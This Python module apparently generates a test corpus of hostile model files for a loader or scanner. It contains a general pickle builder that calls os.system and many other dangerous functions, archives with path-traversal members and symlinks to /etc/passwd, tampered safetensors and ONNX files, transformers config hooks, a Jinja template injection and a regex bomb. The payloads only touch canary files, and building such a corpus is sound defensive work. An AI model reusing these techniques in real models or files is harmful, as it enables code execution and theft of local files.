"""Models that want to do harm: pickles that call something, files that lead elsewhere, settings that ask for code.

Every payload leaves a file in the folder of canaries when it runs. The callables are those that the known scanners of
pickles list (picklescan, fickling, modelscan), Keras' Lambda layers, ONNX' external data, transformers' hooks.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

Args = tuple[Any, ...]
_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # what torch's old format begins with
_CONFIG = {"model_type": "bert", "hidden_size": 8, "vocab_size": 10, "num_hidden_layers": 1, "num_attention_heads": 1,
           "intermediate_size": 8, "max_position_embeddings": 8}  # fmt: skip


def corpus(place: Path, canaries: Path) -> dict[str, Path]:
    """Make every hostile file and folder below `place`, and return them by name."""
    found: dict[str, Path] = {}
    for name, content in (*_pickled(canaries), *_containers(canaries), *_tensor_files(canaries)):
        path = place / "files" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        found[name] = path
    secret = place / "secret.safetensors"
    secret.write_bytes(safetensors({"bert.embeddings.word_embeddings.weight": (10, 8)}))
    for name, files in _folders(canaries, secret):
        folder = place / "folders" / name
        folder.mkdir(parents=True)
        for file, content in files.items():
            if isinstance(content, Path):
                (folder / file).symlink_to(content)
            else:
                (folder / file).parent.mkdir(parents=True, exist_ok=True)
                (folder / file).write_bytes(content)
        found[name] = folder
    found.update(_onnx_folders(place / "onnx", secret))
    return found


# Pickles


def _calls(canaries: Path) -> Iterator[tuple[str, str, Args]]:
    """Yield module, name and arguments of everything that a pickle may call to do harm."""
    number = 0

    def canary() -> str:
        nonlocal number
        number += 1
        return str(canaries / f"call-{number}")

    def touch() -> str:
        return f"touch {canary()}"

    def code() -> str:
        return f"open({canary()!r}, 'w').close()"

    yield from (("os", "system", (touch(),)), ("posix", "system", (touch(),)), ("nt", "system", (touch(),)))
    yield from (("os", "popen", (touch(),)), ("os", "mkdir", (canary(),)), ("posix", "mkdir", (canary(),)))
    yield "os", "spawnl", (os.P_WAIT, "/bin/touch", "touch", canary())
    yield "os", "posix_spawn", ("/bin/touch", ["touch", canary()], {})
    yield "os", "symlink", ("/etc/passwd", canary())
    for name in ("Popen", "call", "run", "check_call", "check_output"):
        yield "subprocess", name, (["touch", canary()],)
    for name in ("getoutput", "getstatusoutput"):
        yield "subprocess", name, (touch(),)
    yield "commands", "getoutput", (touch(),)
    for module in ("builtins", "__builtin__"):
        yield from ((module, "eval", (code(),)), (module, "exec", (code(),)), (module, "open", (canary(), "w")))
    yield from (("builtins", "compile", (code(), "x", "exec")), ("builtins", "__import__", ("antigravity",)))
    yield "builtins", "getattr", (canary(), "upper")
    yield "builtins", "breakpoint", ()
    yield from (
        ("io", "open", (canary(), "w")),
        ("_io", "FileIO", (canary(), "w")),
        ("codecs", "open", (canary(), "w")),
    )
    yield "pathlib", "PosixPath", (canary(),)
    yield from (("pty", "spawn", (["touch", canary()],)), ("platform", "popen", (touch(),)))
    yield from (("runpy", "_run_code", (code(), {})), ("runpy", "run_path", ("/nowhere/evil.py",)))
    yield from (("importlib", "import_module", ("antigravity",)), ("webbrowser", "open", ("http://127.0.0.1:9/",)))
    yield from (("shutil", "copyfile", ("/etc/passwd", canary())), ("shutil", "rmtree", ("/nowhere/at/all",)))
    yield from (("socket", "create_connection", (("127.0.0.1", 9),)), ("socket", "socket", ()))
    yield from (("urllib.request", "urlopen", ("http://127.0.0.1:9/",)), ("http.client", "HTTPConnection", ("x",)))
    yield "urllib.request", "urlretrieve", ("file:///etc/passwd", canary())
    yield from (("ftplib", "FTP", ("127.0.0.1",)), ("smtplib", "SMTP", ("127.0.0.1", 9)))
    yield "asyncio.subprocess", "create_subprocess_shell", (touch(),)
    yield "multiprocessing.util", "spawnv_passfds", (b"/bin/touch", [b"touch", canary().encode()], [])
    yield from (("ctypes", "CDLL", ("libc.so.6",)), ("ctypes.util", "find_library", ("c",)))
    yield from (("code", "interact", ()), ("codeop", "compile_command", (code(),)), ("timeit", "timeit", (code(),)))
    yield from (("cProfile", "run", (code(),)), ("profile", "run", (code(),)), ("pdb", "run", (code(),)))
    yield from (("bdb", "Bdb", ()), ("trace", "Trace", ()), ("doctest", "debug_script", (code(),)))
    yield from (("pydoc", "pipepager", ("x", touch())), ("pydoc", "tempfilepager", ("x", touch())))
    yield from (("distutils.spawn", "spawn", (["touch", canary()],)), ("ensurepip", "_run_pip", (["--version"],)))
    yield from (("imaplib", "IMAP4_stream", (touch(),)), ("venv", "create", (canary(),)))
    yield "test.support.script_helper", "assert_python_ok", ("-c", code())
    yield "logging.config", "listen", (0,)
    yield from (("logging", "FileHandler", (canary(),)), ("sqlite3", "connect", (canary(),)))
    yield from (("operator", "methodcaller", ("system", touch())), ("operator", "attrgetter", ("system",)))
    yield from (("functools", "partial", (int,)), ("types", "FunctionType", ()), ("types", "CodeType", ()))
    yield from (("marshal", "loads", (b"c",)), ("atexit", "register", (print,)), ("site", "addsitedir", ("/nowhere",)))
    inner = call("os", "system", (touch(),))
    for module in ("pickle", "_pickle", "dill", "cloudpickle"):
        yield module, "loads", (inner,)
    yield "numpy.testing._private.utils", "runstring", (code(), {})
    yield from (("numpy", "load", ("/nowhere.npy", "r", True)), ("joblib", "load", ("/nowhere.joblib",)))
    yield from (("pandas", "read_pickle", ("/nowhere.pkl",)), ("torch", "load", ("/nowhere.pt",)))
    yield from (("torch.storage", "_load_from_bytes", (inner,)), ("torch.jit", "load", ("/nowhere.pt",)))
    yield from (("torch.hub", "load", ("nobody/nothing", "evil")), ("torch.utils.collect_env", "run", (touch(),)))
    yield "torch.utils._config_module", "ConfigModule.load_config", (inner,)
    yield "torch._inductor.codecache", "compile_file", ("/nowhere.cpp", canary(), ["touch"])
    yield "torch.distributed.run", "main", (["--version"],)
    yield "torch.multiprocessing.spawn", "spawn", (print,)
    yield from (
        ("pip._internal.cli.main", "main", (["--version"],)),
        ("uuid", "_get_command_stdout", ("touch", canary())),
    )
    yield from (("tempfile", "mktemp", ()), ("threading", "Thread", ()), ("sys", "setrecursionlimit", (10,)))


def call(module: str, name: str, args: Args, protocol: int = 2) -> bytes:
    """Return the pickle that calls `name` of `module` with `args`, without importing either."""
    body = _body(args, protocol)
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        return head + _short(module) + _short(name) + b"\x93" + body + b"R."
    return head + b"c" + f"{module}\n{name}\n".encode() + body + b"R."


def _body(args: Args, protocol: int) -> bytes:
    """Return the opcodes that put `args` on the stack."""
    plain = tuple(value if isinstance(value, int | str | bytes | list | dict | tuple) else str(value) for value in args)
    content = pickle.dumps(plain, protocol)[:-1]
    if protocol >= 2:
        content = content[2:]
    return content[9:] if content[:1] == b"\x95" else content


def _short(text: str) -> bytes:
    encoded = text.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def _pickled(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield each call as a file of its own: protocols, containers and endings take turns."""
    wraps = (_plain, _torch_zip, _legacy, _plain)
    for number, (module, name, args) in enumerate(_calls(canaries)):
        content = call(module, name, args, number % 6)
        wrapped = wraps[number % len(wraps)](content)
        ending = (".pth", ".pt", ".pth", ".safetensors")[number % 4]
        yield f"{number:03d}-{module.replace('.', '_')}-{name.replace('.', '_')}{ending}", wrapped
    yield from _opcodes(canaries)


def _opcodes(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield the same call by every opcode that can make one, and pickles that hide where they end."""
    command = f"touch {canaries / 'opcode'}"
    quoted = f"S'{command}'\n".encode()
    yield "inst.pth", b"(" + quoted + b"ios\nsystem\n."
    yield "obj.pth", b"(cos\nsystem\n" + quoted + b"o."
    yield "newobj.pth", b"\x80\x02cos\nsystem\n" + quoted + b"\x85\x81."
    yield "newobj_ex.pth", b"\x80\x04cos\nsystem\n" + quoted + b"\x85}\x92."
    yield "build.pth", b"\x80\x02cbuiltins\nException\n)R}U\x08__reduce__cos\nsystem\nsb."
    yield "ext.pth", b"\x80\x02\x82\x01" + quoted + b"\x85R."
    yield "persid.pth", b"\x80\x02" + quoted + b"Q."
    yield "memo.pth", b"\x80\x02cos\nsystem\nq\x000h\x00" + quoted + b"\x85R."
    yield "truncated.pth", call("os", "system", (command,))[:-1]  # it runs before the end is missed
    yield "junk_after.pth", call("os", "system", (command,)) + os.urandom(64)
    yield "two_pickles.pth", pickle.dumps({"weight": 1}) + call("os", "system", (command,))
    yield "junk_before.pth", b"\0" * 64 + call("os", "system", (command,))
    yield "deep.pth", b"\x80\x02" + b"(" * 100_000 + b"cos\nsystem\n" + quoted + b"\x85R."
    yield "dotted.pth", call("os", "path.os.system", (command,), 4)


# What pickles are packed in


def _plain(content: bytes) -> bytes:
    return content


def _torch_zip(content: bytes, extra: Mapping[str, bytes] | None = None, member: str = "archive/data.pkl") -> bytes:
    """Return what torch.save makes today, with this pickle in it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(member, content)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\0" * 16)
        for name, inner in (extra or {}).items():
            archive.writestr(name, inner)
    return file.getvalue()


def _legacy(content: bytes) -> bytes:
    """Return what torch.save made long ago: magic number, version, system, then the pickle."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(pickle.dumps(part, 2) for part in (_LEGACY_MAGIC, 1001, system)) + content


def _containers(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield files that are one thing at the front and another behind, and packings within packings."""
    evil = call("os", "system", (f"touch {canaries / 'container'}",))
    good = pickle.dumps({"weight": 1}, 2)
    code = f"open({str(canaries / 'container')!r}, 'w').close()"
    yield "other_member.pt", _torch_zip(good, {"archive/evil.pkl": evil, "evil.py": code.encode()})
    yield "constants.pt", _torch_zip(good, {"archive/constants.pkl": evil, "archive/code/__torch__.py": code.encode()})
    yield "torchscript.pt", _torch_zip(evil, {"constants.pkl": evil, "code/__torch__/evil.py": code.encode()})
    yield "twice.pt", _twice(good, evil)
    yield "wrong_crc.pt", _torch_zip(evil).replace(struct.pack("<I", zlib.crc32(evil)), b"\1\2\3\4")
    yield "encrypted_flag.pt", _torch_zip(evil).replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0", 1)
    yield "zip_after_pickle.pth", evil + _torch_zip(good)
    yield "pickle_after_zip.pth", _torch_zip(good) + evil
    yield "zip_in_zip.pt", _torch_zip(good, {"archive/inner.zip": _torch_zip(evil)})
    yield "slip.pt", _torch_zip(evil, {f"../../{canaries.name}/slip": b"x", str(canaries / "absolute"): b"x"})
    yield "packed.pth", gzip.compress(evil)
    yield "seven.pth", b"7z\xbc\xaf\x27\x1c" + evil
    yield "tar.pth", _tar({"pickle": evil, "storages": evil, "tensors": evil}, canaries)
    yield "script.pth", f"import os\n{code}\n".encode()
    yield "joblib.pth", zlib.compress(evil)
    yield (
        "array.pth",
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + evil,
    )
    yield "keras.pth", _zip({"config.json": _lambda_layer(code), "metadata.json": b"{}", "model.weights.h5": b"x"})
    yield "keras_h5.pth", b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + _lambda_layer(code)
    yield "saved_model.pth", b"\x08\x01\x12\x20ReadFile WriteFile PyFunc" + evil
    yield "lightning.pt", _torch_zip(call("pytorch_lightning.utilities", "evil", (code,)))
    yield "onnx.pth", onnx_with_data("../../secret")


def _twice(good: bytes, evil: bytes) -> bytes:
    """Return an archive in which the same name stands twice, so that readers may differ in which they take."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", good)
        archive.writestr("archive/data.pk_", evil)
        archive.writestr("archive/version", "3\n")
    return file.getvalue().replace(b"archive/data.pk_", b"archive/data.pkl")


def _zip(members: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _tar(members: Mapping[str, bytes], canaries: Path) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in {**members, f"../{canaries.name}/tar": b"x"}.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, str(canaries)
        archive.addfile(link)
    return file.getvalue()


def _lambda_layer(code: str) -> bytes:
    """Return Keras' configuration of a layer whose function is marshalled code."""
    body = base64.b64encode(code.encode()).decode()
    layer = {"class_name": "Lambda", "config": {"function": [body, None, None], "function_type": "lambda"}}
    return json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}).encode()


def onnx_with_data(location: str) -> bytes:
    """Return an ONNX model with one tensor whose data lie in another file."""

    def field(number: int, content: bytes) -> bytes:
        return bytes([number << 3 | 2, len(content)]) + content

    entry = field(1, b"location") + field(2, location.encode())
    tensor = bytes([1 << 3, 4, 2 << 3, 1]) + field(8, b"w") + field(13, entry) + bytes([14 << 3, 1])
    return bytes([1 << 3, 8]) + field(7, field(2, b"g") + field(5, tensor))


# Weights and folders


def safetensors(shapes: Mapping[str, tuple[int, ...]], **head: Any) -> bytes:
    """Return a safetensors file of zeros, with these entries of its head added or replaced."""
    plain: dict[str, Any] = {}
    end = 0
    for name, shape in shapes.items():
        size = 4
        for side in shape:
            size *= side
        plain[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [end, end + size]}
        end += size
    text = json.dumps({**plain, **head}).encode()
    return struct.pack("<Q", len(text)) + text + b"\0" * end


def _tensor_files(canaries: Path) -> Iterator[tuple[str, bytes]]:
    evil = call("os", "system", (f"touch {canaries / 'tensors'}",))
    sound = safetensors({"weight": (2, 2)})
    yield "pickle_behind.safetensors", sound + evil
    yield "pickle_inside.safetensors", sound[:-16] + evil[:16].ljust(16)
    yield "pickle_first.safetensors", evil + sound
    yield "zip_behind.safetensors", sound + _torch_zip(evil)
    yield "huge_head.safetensors", struct.pack("<Q", 2**62) + b"{}"
    yield "huge_shape.safetensors", _with_head({"w": {"dtype": "F32", "shape": [2**31, 2**31], "data_offsets": [0, 4]}})
    yield "negative.safetensors", _with_head({"w": {"dtype": "F32", "shape": [1], "data_offsets": [-4, 0]}})
    yield "overlapping.safetensors", safetensors({"a": (4,)}, b={"dtype": "F32", "shape": [4], "data_offsets": [0, 16]})
    yield "object_type.safetensors", _with_head({"w": {"dtype": "O", "shape": [1], "data_offsets": [0, 4]}})
    yield (
        "many.safetensors",
        _with_head({str(n): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for n in range(100_001)}),
    )
    yield "names.safetensors", safetensors({"../../evil": (1,), "__class__.__init__": (1,), "\0": (1,)})
    yield "metadata.safetensors", safetensors({"w": (1,)}, __metadata__={"__reduce__": "os.system"})


def _with_head(head: Mapping[str, Any]) -> bytes:
    text = json.dumps(head).encode()
    return struct.pack("<Q", len(text)) + text + b"\0" * 16


def _folders(canaries: Path, secret: Path) -> Iterator[tuple[str, dict[str, bytes | Path]]]:
    """Yield folders of transformers, each with one thing in it that would run or read something else."""
    code = f"open({str(canaries / 'folder')!r}, 'w').close()"
    module, evil = code.encode(), call("os", "system", (f"touch {canaries / 'folder'}",))
    weights = safetensors({"bert.embeddings.word_embeddings.weight": (10, 8)})

    def folder(files: Mapping[str, bytes | Path] | None = None, **config: Any) -> dict[str, bytes | Path]:
        plain = json.dumps({**_CONFIG, **config}).encode()
        return {"config.json": plain, "model.safetensors": weights, "modeling_evil.py": module,
                "configuration_evil.py": module, "__init__.py": module, **(files or {})}  # fmt: skip

    hooks: dict[str, Any] = {
        "auto_map": {"AutoModel": "modeling_evil.Evil", "AutoConfig": "configuration_evil.Evil"},
        "custom_pipelines": {"evil": {"impl": "modeling_evil.Evil"}},
        "trust_remote_code": True,
        "_attn_implementation_internal": "evil/kernel",
        "_attn_implementation": "evil/kernel",
        "attn_implementation": "evil/kernel:evil",
        "experts_implementation": "evil/kernel",
        "use_kernels": True,
        "kernel_config": {"Linear": "evil/kernel:evil"},
        "quantization_config": {"quant_method": "custom", "modules_to_not_convert": []},
        "backbone": "evil/model",
        "transformers_weights": "../../secret.safetensors",
        "text_config": {"auto_map": {"AutoConfig": "configuration_evil.Evil"}},
        "model_type": "../../evil",
        "vocab_size": 2**60,
        "num_hidden_layers": 10**7,
        "hidden_act": "modeling_evil.Evil",
        "activation_function": "os.system",
        "problem_type": f"__import__('os').system('touch {canaries / 'folder'}')",
        "tokenizer_class": "modeling_evil.Evil",
        "pruned_heads": {"0": list(range(100_000))},
        "architectures": ["modeling_evil.Evil"],
        "torch_dtype": "os.system",
    }
    for name, value in hooks.items():
        yield f"config-{name}", folder(**{name: value})
    yield "config-timm", folder(model_type="timm_wrapper", architecture="evil")
    yield "config-nested", {**folder(), "config.json": b'{"a":' * 5_000 + b"1" + b"}" * 5_000}
    yield "weights-pickled", {**folder(), "model.safetensors": evil}
    yield (
        "weights-bin-only",
        {name: value for name, value in {**folder(), "pytorch_model.bin": evil}.items() if name != "model.safetensors"},
    )
    for name, place in (("up", "../../secret.safetensors"), ("absolute", str(secret)), ("pickle", "pytorch_model.bin")):
        index = json.dumps({"weight_map": {"bert.embeddings.word_embeddings.weight": place}}).encode()
        files = {**folder({"model.safetensors.index.json": index, "pytorch_model.bin": evil})}
        files.pop("model.safetensors")
        yield f"index-{name}", files
    yield "adapter", folder({"adapter_config.json": json.dumps({"base_model_name_or_path": "../../evil"}).encode()})
    yield "generation", folder({"generation_config.json": b'{"custom_generate": "modeling_evil.py"}',
                                "custom_generate/generate.py": module})  # fmt: skip
    template = "{{ cycler.__init__.__globals__.os.system('touch " + str(canaries / "folder") + "') }}"
    yield "template", folder({"tokenizer_config.json": json.dumps({"chat_template": template}).encode(),
                              "chat_template.jinja": template.encode()})  # fmt: skip
    hooked = {"auto_map": {"AutoTokenizer": ["modeling_evil.Evil", None]}, "tokenizer_class": "Evil"}
    yield "tokenizer-code", folder({"tokenizer_config.json": json.dumps(hooked).encode()})
    yield "tokenizer-bomb", folder({"tokenizer.json": json.dumps(regex_bomb()).encode()})
    processor = {"auto_map": {"AutoImageProcessor": "modeling_evil.Evil"}, "image_processor_type": "Evil"}
    yield "processor-code", folder({"preprocessor_config.json": json.dumps(processor).encode()})
    yield "linked-config", {**folder(), "config.json": Path("/etc/passwd")}


def regex_bomb(pattern: str = "(a+)+$") -> dict[str, Any]:
    """Return a tokenizer whose regular expression takes longer than anyone lives."""
    return {
        "version": "1.0",
        "model": {"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": []},
        "pre_tokenizer": {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False},
    }


def _onnx_folders(place: Path, secret: Path) -> dict[str, Path]:
    """Make folders of ONNX models whose data lie outside of them: by a path, a link, a second name, absolutely."""
    found = {}
    for name, location in (
        ("up", "../../secret.safetensors"),
        ("absolute", str(secret)),
        ("link", "data"),
        ("hard", "data"),
    ):
        folder = place / name
        folder.mkdir(parents=True)
        (folder / "model.onnx").write_bytes(onnx_with_data(location))
        if name == "link":
            (folder / "data").symlink_to(secret)
        elif name == "hard":
            os.link(secret, folder / "data")
        found[f"onnx-{name}"] = folder
        found[f"onnx-{name}-file"] = folder / "model.onnx"
    return found


def as_model_of_run(model: Path, content: bytes) -> None:
    """Put `content` in the place of a model's weights, with a list of checksums made to fit."""
    (model / "model.safetensors").write_bytes(content)
    listed = json.loads((model / "manifest.json").read_text(encoding="utf-8"))
    listed["model.safetensors"] = {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    (model / "manifest.json").write_text(json.dumps(listed), encoding="utf-8")
